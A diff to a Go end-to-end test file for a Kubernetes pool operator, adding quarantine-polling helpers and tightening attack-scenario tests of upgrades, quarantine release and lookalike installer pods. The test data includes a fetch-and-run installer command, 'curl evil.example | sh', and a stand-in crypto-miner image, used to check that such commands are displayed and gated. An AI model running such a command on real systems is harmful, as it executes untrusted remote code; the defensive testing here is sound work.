@@ -93,6 +93,9 @@ func (nopTB) Cleanup(func()) {}
 func nodeWorkPool(t *testing.T, name string, n int, h *v1alpha1.HealthPolicy) []string {
 	t.Helper()
 	nodeWorkFixture(t)
+	if h != nil && h.Mode == "" {
+		h.Mode = v1alpha1.HealthEnforce // an empty spec.health would not be stored
+	}
 	_, err := poolclient.New(framework.C.Dynamic).Create(ctx, &v1alpha1.Pool{ObjectMeta: metav1.ObjectMeta{Name: name},
 		Spec: v1alpha1.PoolSpec{Type: v1alpha1.PoolTypeDevelopment, Health: h}}, metav1.CreateOptions{})
 	require.NoError(t, err)
@@ -145,6 +148,15 @@ func quarantined(t *testing.T, node string) bool {
 	n, err := framework.C.Kube.CoreV1().Nodes().Get(ctx, node, metav1.GetOptions{})
 	require.NoError(t, err)
 	return policy.QuarantineTaintOf(n) != nil
+}
+
+// waitQuarantined waits until node carries the quarantine taint (on) or not: the loop
+// puts it on once the entry is stored.
+func waitQuarantined(t *testing.T, node string, on bool) {
+	t.Helper()
+	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
+		return quarantined(t, node) == on, nil
+	}), "node %s: quarantine taint should be %v\n%s", node, on, framework.W.Log)
 }
 
 // waitEntry waits until node's entry satisfies ok, and returns it.
@@ -215,7 +227,7 @@ func attackEditorsRemediation(t *testing.T) {
 	e := waitEntry(t, "at-nw-rem", nodes[0], "held out", inState(v1alpha1.NodeHealthHeldOut))
 	assert.Equal(t, policy.ReasonNoDefinition, e.Reason)
 	assert.Contains(t, e.Message, "names no operator definition")
-	assert.True(t, quarantined(t, nodes[0]))
+	waitQuarantined(t, nodes[0], true)
 	assert.Empty(t, nodeWorkJobs(t, nodes[0]), "no Job for the editor's command")
 }
 
@@ -306,10 +318,13 @@ func attackEditorsInstaller(t *testing.T) {
 		p.Spec.Upgrade = &v1alpha1.UpgradeSpec{InstallerImage: "registry.example.com/editors-installer:1",
 			InstallerCommand: []string{"/bin/sh", "-c", "curl evil.example | sh"}}
 	})
+	shown := `registry.example.com/editors-installer:1 running "/bin/sh -c curl evil.example | sh"`
 	res := framework.C.Litepool(t, "upgrade", "driver", "--pool", "at-nw-upg", "--version", "24.1.0.3", "--dry-run=client")
-	out := res.Stdout + res.Stderr
-	assert.Contains(t, out, `registry.example.com/editors-installer:1 running "/bin/sh -c curl evil.example | sh"`)
-	assert.Contains(t, out, "the installer image and command come from pool at-nw-upg's spec.upgrade")
+	assert.Contains(t, res.Stdout+res.Stderr, shown, "the dry run shows what would run")
+	res = framework.C.Kubectl(t, "no\n", "litepool", "upgrade", "driver", "--pool", "at-nw-upg", "--version", "24.1.0.3")
+	assert.NotEqual(t, 0, res.ExitCode, "not confirmed")
+	assert.Contains(t, res.Stdout+res.Stderr, shown, "the confirmation shows what would run")
+	assert.Contains(t, res.Stdout+res.Stderr, "the installer image and command come from pool at-nw-upg's spec.upgrade")
 	list, err := framework.C.Dynamic.Resource(v1alpha1.DriverRolloutResource).List(ctx, metav1.ListOptions{})
 	require.NoError(t, err)
 	assert.Empty(t, list.Items, "a dry run creates nothing")
@@ -476,7 +491,7 @@ func attackRewriteAQuarantinedEntry(t *testing.T) {
 	n := nodes[0]
 	setCondition(t, n, "KernelDeadlock", corev1.ConditionTrue)
 	waitEntry(t, "at-nw-q", n, "quarantined", inState(v1alpha1.NodeHealthQuarantined))
-	require.True(t, quarantined(t, n))
+	waitQuarantined(t, n, true)
 	longAgo := time.Now().Add(-48 * time.Hour).UTC().Format(time.RFC3339)
 	for _, forged := range [][]map[string]any{
 		{forgedEntry(n, map[string]any{"state": "Released", "by": "mallory"})},
@@ -506,6 +521,7 @@ func attackHealthOperatorRelease(t *testing.T) {
 	waitEntry(t, "at-nw-rel", n, "released", inState(v1alpha1.NodeHealthHealthy))
 	setCondition(t, n, "KernelDeadlock", corev1.ConditionTrue)
 	waitEntry(t, "at-nw-rel", n, "quarantined", inState(v1alpha1.NodeHealthQuarantined))
+	waitQuarantined(t, n, true)
 	old := metav1.NewTime(time.Now().Add(-time.Hour))
 	editPool(t, healthOp, "at-nw-rel", func(p *v1alpha1.Pool) {
 		p.Spec.Health.Release = []v1alpha1.NodeRelease{{Node: n, At: old, By: healthOp}}
@@ -516,30 +532,23 @@ func attackHealthOperatorRelease(t *testing.T) {
 	// later release returns it.
 	setCondition(t, n, "KernelDeadlock", corev1.ConditionFalse)
 	waitEntry(t, "at-nw-rel", n, "holding", inState(v1alpha1.NodeHealthHolding))
-	require.True(t, quarantined(t, n))
+	assert.True(t, quarantined(t, n), "out during its hold time")
 	editPool(t, healthOp, "at-nw-rel", func(p *v1alpha1.Pool) {
 		p.Spec.Health.Release = []v1alpha1.NodeRelease{{Node: n, At: metav1.Now(), By: healthOp}}
 	})
-	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
-		return !quarantined(t, n), nil
-	}), "a release dated later returns the node")
+	waitQuarantined(t, n, false)
 }
 
-// attackInstallerLookalike (28.8): a tenant's pod copying the installer's labels and a
-// Job ownerReference (its own Job), on a member of a pool that drains. A fatal fault:
-// the pod is the tenant's and is evicted like any.
+// attackInstallerLookalike: a tenant's pod copying the installer's name and labels, on
+// a member of a pool that drains. A fatal fault: the pod is the tenant's and is evicted
+// like any. (A Job ownerReference is played by unit tests only: kwok completes a pod a
+// Job owns at once, and a finished pod is not drained.)
 func attackInstallerLookalike(t *testing.T) {
 	nodes := nodeWorkPool(t, "at-nw-look", 2, &v1alpha1.HealthPolicy{Drain: true})
-	kube := as(t, tenant)
-	job, err := kube.BatchV1().Jobs(foreignNS).Create(ctx, &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "lookalike"},
-		Spec: batchv1.JobSpec{Suspend: ptr.To(true), Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
-			Containers: []corev1.Container{{Name: "x", Image: "busybox"}}}}}}, metav1.CreateOptions{})
-	require.NoError(t, err)
 	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "litepool-driver-installer-lookalike",
-		Labels:          map[string]string{"app.kubernetes.io/managed-by": "litepool", "app.kubernetes.io/component": "driver-installer"},
-		OwnerReferences: []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: "Job", Name: job.Name, UID: job.UID, Controller: ptr.To(true)}}},
+		Labels: map[string]string{"app.kubernetes.io/managed-by": "litepool", "app.kubernetes.io/component": "driver-installer"}},
 		Spec: corev1.PodSpec{NodeName: nodes[0], Containers: []corev1.Container{{Name: "main", Image: "busybox"}}}}
-	_, err = kube.CoreV1().Pods(foreignNS).Create(ctx, pod, metav1.CreateOptions{})
+	_, err := as(t, tenant).CoreV1().Pods(foreignNS).Create(ctx, pod, metav1.CreateOptions{})
 	require.NoError(t, err, "edit in a namespace makes the pod")
 	setCondition(t, nodes[0], "SysLogsXIDError", corev1.ConditionTrue)
 	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
@@ -567,8 +576,13 @@ func attackOperatorsStressRun(t *testing.T) {
 	dyn, err := dynamic.NewForConfig(asConfig(litepoolOp))
 	require.NoError(t, err)
 	run := &unstructuredRun{Name: "at-nw-any-image", Pool: "at-nw-sr", Nodes: nodes, Image: "evil.example/miner:1"}
-	_, err = dyn.Resource(v1alpha1.StressRunResource).Create(ctx, run.object(), metav1.CreateOptions{})
-	require.NoError(t, err, "litepool-operator creates StressRuns")
+	// The webhook judges the run's nodes from its cache, which sees a new member a moment
+	// after it is made.
+	var lastErr error
+	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, 30*time.Second, true, func(context.Context) (bool, error) {
+		_, lastErr = dyn.Resource(v1alpha1.StressRunResource).Create(ctx, run.object(), metav1.CreateOptions{})
+		return lastErr == nil, nil
+	}), "litepool-operator creates StressRuns: %v", lastErr)
 	var pods []corev1.Pod
 	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
 		pods = nodeWorkPods(t, nodes[0])
